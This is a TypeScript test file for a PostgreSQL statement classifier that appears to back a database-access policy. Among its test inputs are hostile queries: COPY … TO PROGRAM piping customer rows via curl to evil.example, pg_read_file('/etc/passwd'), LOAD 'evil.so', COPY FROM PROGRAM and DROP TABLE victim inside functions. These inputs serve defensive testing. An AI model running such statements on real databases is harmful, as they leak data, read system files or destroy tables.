import { beforeAll, describe, expect, it } from 'vitest';
import { classifySql, initSqlParser } from '../../src/policy/index.js';

beforeAll(async () => {
  await initSqlParser();
});

function one(text: string) {
  const c = classifySql(text);
  expect(c.statements).toHaveLength(1);
  return c.statements[0]!;
}

describe('statement kinds', () => {
  it.each([
    ['SELECT * FROM t', 'select'],
    ['INSERT INTO t VALUES (1)', 'insert'],
    ['UPDATE t SET a = 1 WHERE id = 2', 'update'],
    ['DELETE FROM t WHERE id = 1', 'delete'],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'merge'],
    ['COPY t TO STDOUT', 'copy_to'],
    ["COPY t TO '/tmp/x'", 'copy_to'],
    ['COPY t FROM STDIN', 'copy_from'],
    ["COPY t FROM PROGRAM 'curl x'", 'copy_from'],
    ["COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- https://evil.example'", 'copy_to_program'],
    ['CREATE TABLE x (a int)', 'create'],
    ['CREATE TABLE x AS SELECT * FROM customers', 'create'],
    ['SELECT * INTO x FROM customers', 'create'],
    ['CREATE INDEX i ON t (a)', 'create'],
    ['ALTER TABLE t ADD COLUMN b int', 'alter'],
    ["ALTER SYSTEM SET work_mem = '1GB'", 'alter'],
    ['DROP TABLE t', 'drop'],
    ['DROP SCHEMA s CASCADE', 'drop'],
    ['TRUNCATE a, b', 'truncate'],
    ['GRANT SELECT ON t TO u', 'grant'],
    ['REVOKE SELECT ON t FROM u', 'revoke'],
    ['SET search_path = x', 'set'],
    ['RESET ALL', 'set'],
    ['SHOW work_mem', 'set'],
    ['BEGIN', 'transaction'],
    ['COMMIT', 'transaction'],
    ['ROLLBACK', 'transaction'],
    ['SAVEPOINT s', 'transaction'],
    ['PREPARE p AS SELECT 1', 'select'],
    ['PREPARE p AS DELETE FROM t', 'delete'],
    ['DEALLOCATE p', 'prepare'],
    ['EXECUTE p', 'unknown'],
    ['CALL proc(1)', 'call'],
    ['DO $$ BEGIN PERFORM 1; END $$', 'call'],
    ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", 'unknown'],
    ['LISTEN jobs', 'set'],
    ['UNLISTEN *', 'set'],
    ["NOTIFY jobs, 'x'", 'set'],
    ['DISCARD ALL', 'set'],
    ['RESET work_mem', 'set'],
    ['DEALLOCATE ALL', 'prepare'],
    ['CHECKPOINT', 'alter'],
    ["LOAD 'evil.so'", 'unknown'],
  ])('%s → %s', (text, kind) => {
    const s = one(text);
    expect(s.kind).toBe(kind);
    expect(s.error).toBeUndefined();
  });

  it('a data-modifying CTE inside a SELECT is that modification', () => {
    const s = one('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d');
    expect(s.kind).toBe('delete');
    expect(s.effects).toEqual(['delete', 'select']);
    expect(s.writes).toEqual(['t']);
    expect(s.reads).toEqual([]);
    expect(s.ctes).toEqual(['d']);
    expect(s.noWhere).toBe(true);
  });

  it('EXPLAIN ANALYZE of a write is that write; plain EXPLAIN too, marked as such', () => {
    const a = one('EXPLAIN ANALYZE UPDATE t SET a=1');
    expect(a).toMatchObject({ kind: 'update', noWhere: true, explain: 'analyze', writes: ['t'] });
    expect(one('EXPLAIN (ANALYZE, BUFFERS) DELETE FROM t')).toMatchObject({ kind: 'delete', explain: 'analyze' });
    expect(one('EXPLAIN (ANALYZE false) DELETE FROM t')).toMatchObject({ kind: 'delete', explain: 'plain' });
    expect(one('EXPLAIN DELETE FROM t WHERE a = 1')).toMatchObject({ kind: 'delete', explain: 'plain', noWhere: false });
  });

  it('COPY … TO PROGRAM names the program and reads the source', () => {
    const s = one("COPY (SELECT * FROM customers) TO PROGRAM 'curl -d @- https://evil.example'");
    expect(s.program).toBe('curl -d @- https://evil.example');
    expect(s.reads).toEqual(['customers']);
    expect(s.command).toBe('COPY TO PROGRAM');
    expect(one("COPY t FROM PROGRAM 'id'")).toMatchObject({ program: 'id', writes: ['t'], command: 'COPY FROM PROGRAM' });
  });

  it('COPY of a DELETE … RETURNING is a delete', () => {
    expect(one('COPY (DELETE FROM t RETURNING *) TO STDOUT')).toMatchObject({ kind: 'delete', effects: ['delete', 'copy_to'] });
  });

  it('CREATE TABLE AS is create and reads its source', () => {
    expect(one('CREATE TABLE x AS SELECT * FROM customers')).toMatchObject({ kind: 'create', reads: ['customers'], writes: ['x'] });
  });

  it('PREPARE carries the prepared statement and the prepare effect', () => {
    expect(one('PREPARE p AS UPDATE t SET a = $1')).toMatchObject({ kind: 'update', effects: ['update', 'prepare'], noWhere: true, writes: ['t'] });
  });

  it('ALTER SYSTEM and DROP TABLE carry their command tags', () => {
    expect(one("ALTER SYSTEM SET work_mem = '1GB'").command).toBe('ALTER SYSTEM');
    expect(one('DROP TABLE a, public.b').command).toBe('DROP TABLE');
    expect(one('DROP TABLE a, public.b').writes).toEqual(['a', 'public.b']);
  });
});

describe('relations', () => {
  it('keeps quoted case and schema, lower-cases unquoted', () => {
    expect(one('SELECT * FROM "Customers" JOIN PUBLIC.customers c ON true').reads).toEqual(['Customers', 'public.customers']);
    expect(one('SELECT * FROM "Sales"."Orders"').reads).toEqual(['Sales.Orders']);
    expect(one('SELECT * FROM db.s.t').reads).toEqual(['db.s.t']);
  });

  it('tells CTE names from tables, including a CTE that shadows the table it reads', () => {
    const s = one('WITH customers AS (SELECT * FROM customers) SELECT * FROM customers');
    expect(s.reads).toEqual(['customers']);
    expect(s.ctes).toEqual(['customers']);
    const t = one('WITH x AS (SELECT 1) SELECT * FROM x');
    expect(t.reads).toEqual([]);
  });

  it('a CTE name is not in scope outside its WITH', () => {
    const s = one('SELECT * FROM secrets, (WITH secrets AS (SELECT 1) SELECT * FROM secrets) q');
    expect(s.reads).toEqual(['secrets']);
  });

  it('a recursive CTE refers to itself', () => {
    expect(one('WITH RECURSIVE r AS (SELECT 1 UNION SELECT * FROM r) SELECT * FROM r').reads).toEqual([]);
  });

  it('a schema-qualified name is never a CTE', () => {
    expect(one('WITH t AS (SELECT 1) SELECT * FROM public.t').reads).toEqual(['public.t']);
  });

  it('INSERT … SELECT reads the source and writes the target', () => {
    const s = one('INSERT INTO archive SELECT * FROM orders o JOIN customers c ON c.id = o.cid');
    expect(s).toMatchObject({ kind: 'insert', writes: ['archive'], reads: ['orders', 'customers'] });
  });

  it('DDL targets are writes', () => {
    expect(one('CREATE VIEW v AS SELECT * FROM customers')).toMatchObject({ kind: 'create', writes: ['v'], reads: ['customers'] });
    expect(one('ALTER TABLE public.t ADD COLUMN b int')).toMatchObject({ kind: 'alter', writes: ['public.t'], reads: [] });
    expect(one('TRUNCATE a, b')).toMatchObject({ writes: ['a', 'b'], reads: [] });
  });

  it('UPDATE … FROM and DELETE … USING read the other relations', () => {
    expect(one('UPDATE t SET a = 1 FROM u WHERE t.id = u.id')).toMatchObject({ writes: ['t'], reads: ['u'], noWhere: false });
    expect(one('DELETE FROM t USING u WHERE t.id = u.id')).toMatchObject({ writes: ['t'], reads: ['u'] });
  });
});

describe('functions', () => {
  it.each([
    ["select pg_read_file('/etc/passwd')"],
    ["select * from (select pg_read_file('/etc/passwd')) s"],
    ["with x as (select pg_read_file('/etc/passwd')) select * from x"],
    ["select * from t, lateral pg_read_file(t.path) f"],
    ["select * from pg_read_file('/etc/passwd')"],
    ["select 1 where exists (select pg_read_file('/etc/passwd'))"],
    ["select a from t order by pg_read_file(a)"],
    ["insert into t select pg_read_file('/etc/passwd')"],
    ["update t set a = 1 where b = pg_read_file('/x')"],
    ["select case when true then pg_read_file('x') end"],
  ])('%s', (text) => {
    expect(one(text).functions).toContain('pg_read_file');
  });

  it('keeps the schema when written', () => {
    expect(one("select PG_CATALOG.pg_read_file('/x')").functions).toEqual(['pg_catalog.pg_read_file']);
  });

  it('sees functions in column defaults and INSERT select lists', () => {
    expect(one("CREATE TABLE x (a int DEFAULT nextval('s'), b text DEFAULT lo_export(1, '/x'))").functions).toEqual(['nextval', 'lo_export']);
    expect(one("INSERT INTO t (a, b) SELECT now(), dblink_exec('c', 'x') FROM src").functions).toEqual(['now', 'dblink_exec']);
  });

  it('CALL reports the called procedure', () => {
    expect(one('CALL admin.reset_all()').functions).toEqual(['admin.reset_all']);
  });
});

describe('noWhere', () => {
  it('UPDATE and DELETE without WHERE, anywhere', () => {
    expect(one('UPDATE t SET a = 1').noWhere).toBe(true);
    expect(one('DELETE FROM t').noWhere).toBe(true);
    expect(one('DELETE FROM t WHERE a = 1').noWhere).toBe(false);
    expect(one('WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u').noWhere).toBe(true);
    expect(one('SELECT * FROM t').noWhere).toBe(false);
  });
});

describe('multi-statement text', () => {
  it('splits into statements with their own text', () => {
    const c = classifySql('SELECT 1; DROP TABLE t');
    expect(c.statements.map((s) => [s.kind, s.text])).toEqual([
      ['select', 'SELECT 1'],
      ['drop', 'DROP TABLE t'],
    ]);
  });

  it('slices by UTF-8 bytes, not UTF-16 units', () => {
    const c = classifySql("SELECT 'héllo 日本 🎉' AS x;  DELETE FROM \"tæble\" WHERE a = 'ü'; SELECT 2");
    expect(c.statements.map((s) => s.text)).toEqual([
      "SELECT 'héllo 日本 🎉' AS x",
      "DELETE FROM \"tæble\" WHERE a = 'ü'",
      'SELECT 2',
    ]);
    expect(c.statements[1]!.writes).toEqual(['tæble']);
  });

  it('a parse error in one statement leaves the others classified', () => {
    const c = classifySql("SELECT 'é'; DR/**/OP TABLE t; SELECT 2");
    expect(c.error).toMatch(/syntax error/);
    expect(c.statements.map((s) => s.kind)).toEqual(['select', 'unknown', 'select']);
    expect(c.statements[1]!.text).toBe('DR/**/OP TABLE t');
    expect(c.statements[1]!.error).toMatch(/syntax error/);
  });

  it('comments hiding keywords are a parse error → unknown', () => {
    const s = one('DR/**/OP TABLE t');
    expect(s.kind).toBe('unknown');
    expect(s.error).toMatch(/syntax error/);
  });

  it('a semicolon inside a string or a dollar quote does not split', () => {
    const c = classifySql("SELECT ';'; DO $$ BEGIN PERFORM 1; END $$");
    expect(c.statements.map((s) => s.kind)).toEqual(['select', 'call']);
  });

  it('empty and comment-only text has no statements', () => {
    expect(classifySql('').statements).toEqual([]);
    expect(classifySql('-- nothing\n/* here */').statements).toEqual([]);
  });
});

describe('robustness', () => {
  it('1000 nested subqueries do not crash and are classified', () => {
    let q = 'SELECT pg_read_file(\'x\') FROM deepest';
    for (let i = 0; i < 1000; i++) q = `SELECT * FROM (${q}) s${i}`;
    const s = one(q);
    expect(s.kind).toBe('select');
    expect(s.reads).toEqual(['deepest']);
    expect(s.functions).toEqual(['pg_read_file']);
  });

  it('absurd nesting beyond the parser becomes unknown with an error, not a crash', () => {
    let q = 'SELECT 1';
    for (let i = 0; i < 20000; i++) q = `SELECT (${q})`;
    const c = classifySql(q);
    expect(c.statements[0]!.kind).toBe('unknown');
    expect(c.statements[0]!.error).toBeTruthy();
  });

  it('returns the cached, frozen result for the same text', () => {
    const a = classifySql('SELECT * FROM cached_t');
    const b = classifySql('SELECT * FROM cached_t');
    expect(b).toBe(a);
    expect(Object.isFrozen(a.statements[0])).toBe(true);
  });
});

describe('code: calls, function bodies, DO blocks, triggers and rules', () => {
  it('CALL is its own kind, naming its procedure', () => {
    expect(one('CALL admin.reset_all(now())')).toMatchObject({ kind: 'call', effects: ['call'], command: 'CALL', procedure: 'admin.reset_all', functions: ['admin.reset_all', 'now'] });
  });

  it.each([
    ["CREATE FUNCTION g() RETURNS void LANGUAGE sql AS 'DROP TABLE victim'", 'CREATE FUNCTION'],
    ["CREATE OR REPLACE FUNCTION g() RETURNS void AS $$ DROP TABLE victim $$ LANGUAGE sql", 'CREATE FUNCTION'],
    ['CREATE PROCEDURE g() LANGUAGE sql BEGIN ATOMIC DROP TABLE victim; END', 'CREATE PROCEDURE'],
    ['CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ BEGIN IF true THEN DROP TABLE victim; END IF; END $$', 'CREATE FUNCTION'],
  ])('folds the body of %s into it', (text, command) => {
    const s = one(text);
    expect(s).toMatchObject({ kind: 'drop', command, writes: ['victim'] });
    // (PL/pgSQL conditions are expressions, classified as SELECT expr: `select` may follow.)
    expect(s.effects.slice(0, 2)).toEqual(['drop', 'create']);
    expect(s.opaque).toBeUndefined();
  });

  it('a BEGIN ATOMIC body is classified statement by statement', () => {
    const s = one('CREATE FUNCTION g() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT count(*) FROM u; END');
    expect(s).toMatchObject({ kind: 'delete', reads: ['u'], writes: ['t'], functions: ['count'], noWhere: true });
  });

  it('PL/pgSQL: static statements, expressions and assignments are folded in', () => {
    const s = one(`CREATE FUNCTION g(a int) RETURNS int LANGUAGE plpgsql AS $$
      DECLARE r record; n int;
      BEGIN
        FOR r IN SELECT * FROM orders WHERE total > a LOOP
          UPDATE stats SET seen = seen + 1 WHERE id = r.id;
        END LOOP;
        n := (SELECT count(*) FROM pg_read_file('/etc/passwd') f);
        IF secret_check(a) THEN RAISE NOTICE '%', n; END IF;
        RETURN n;
      END $$`);
    expect(s.kind).toBe('update');
    expect(s.reads).toEqual(expect.arrayContaining(['orders']));
    expect(s.writes).toEqual(['stats']);
    expect(s.functions).toEqual(expect.arrayContaining(['pg_read_file', 'secret_check', 'count']));
  });

  it.each([
    ["CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE x'; END $$", 'function g runs dynamic SQL (EXECUTE) that cannot be analysed'],
    ["CREATE FUNCTION g() RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE 'select 1'; END $$", 'function g runs dynamic SQL (RETURN QUERY EXECUTE) that cannot be analysed'],
    ["CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'select 1' LOOP END LOOP; END $$", 'procedure p runs dynamic SQL (FOR … IN EXECUTE) that cannot be analysed'],
    ["CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'select 1'; END $$", 'function g runs dynamic SQL (OPEN … FOR EXECUTE) that cannot be analysed'],
    ["CREATE FUNCTION g() RETURNS int LANGUAGE plpython3u AS 'return 1'", 'function g is written in LANGUAGE plpython3u, which cannot be analysed'],
    ["CREATE FUNCTION g() RETURNS int LANGUAGE c AS 'lib', 'sym'", 'function g is written in LANGUAGE c, which cannot be analysed'],
    ["DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", 'DO block runs dynamic SQL (EXECUTE) that cannot be analysed'],
    ["DO LANGUAGE plperlu 'system(1)'", 'DO block is written in LANGUAGE plperlu, which cannot be analysed'],
  ])('%s is opaque', (text, opaque) => {
    const s = one(text);
    expect(s.kind).toBe('unknown');
    expect(s.effects).toContain('unknown');
    expect(s.opaque).toBe(opaque);
    expect(s.error).toBeUndefined();
  });

  it('a DO block is a call plus what it runs', () => {
    expect(one('DO $$ BEGIN INSERT INTO t VALUES (1); END $$')).toMatchObject({ kind: 'insert', effects: ['insert', 'call'], writes: ['t'], command: 'DO' });
    expect(one('DO $$ BEGIN DELETE FROM t; END $$')).toMatchObject({ kind: 'delete', noWhere: true });
  });

  it('bodies with the same shape but other literals are not confused by the shape cache', () => {
    expect(one("CREATE FUNCTION g() RETURNS void LANGUAGE sql AS 'SELECT 1'").kind).toBe('create');
    expect(one("CREATE FUNCTION g() RETURNS void LANGUAGE sql AS 'DROP TABLE victim'").kind).toBe('drop');
  });

  it('CREATE TRIGGER and CREATE EVENT TRIGGER name their function', () => {
    expect(one('CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION audit.tf()')).toMatchObject({ command: 'CREATE TRIGGER', functions: ['audit.tf'], writes: ['t'] });
    expect(one('CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION etf()')).toMatchObject({ command: 'CREATE EVENT TRIGGER', functions: ['etf'] });
  });

  it('CREATE RULE folds in its actions', () => {
    const s = one('CREATE OR REPLACE RULE r AS ON INSERT TO t DO INSTEAD (DELETE FROM u; NOTIFY z)');
    expect(s).toMatchObject({ kind: 'delete', command: 'CREATE RULE', noWhere: true });
    expect(s.effects).toEqual(['delete', 'create', 'set']);
    expect(s.writes).toEqual(expect.arrayContaining(['t', 'u']));
  });

  it('utility statements clients send have real kinds and commands', () => {
    expect(one('LISTEN jobs')).toMatchObject({ kind: 'set', command: 'LISTEN' });
    expect(one('UNLISTEN *')).toMatchObject({ kind: 'set', command: 'UNLISTEN' });
    expect(one("NOTIFY jobs, 'x'")).toMatchObject({ kind: 'set', command: 'NOTIFY' });
    expect(one('CHECKPOINT')).toMatchObject({ kind: 'alter', command: 'CHECKPOINT' });
  });

  it('EXECUTE names the prepared statement as PostgreSQL folds it', () => {
    expect(one('EXECUTE MyPlan(1)')).toMatchObject({ kind: 'unknown', executes: 'myplan' });
    expect(one('EXECUTE "MyPlan"')).toMatchObject({ kind: 'unknown', executes: 'MyPlan' });
  });
});
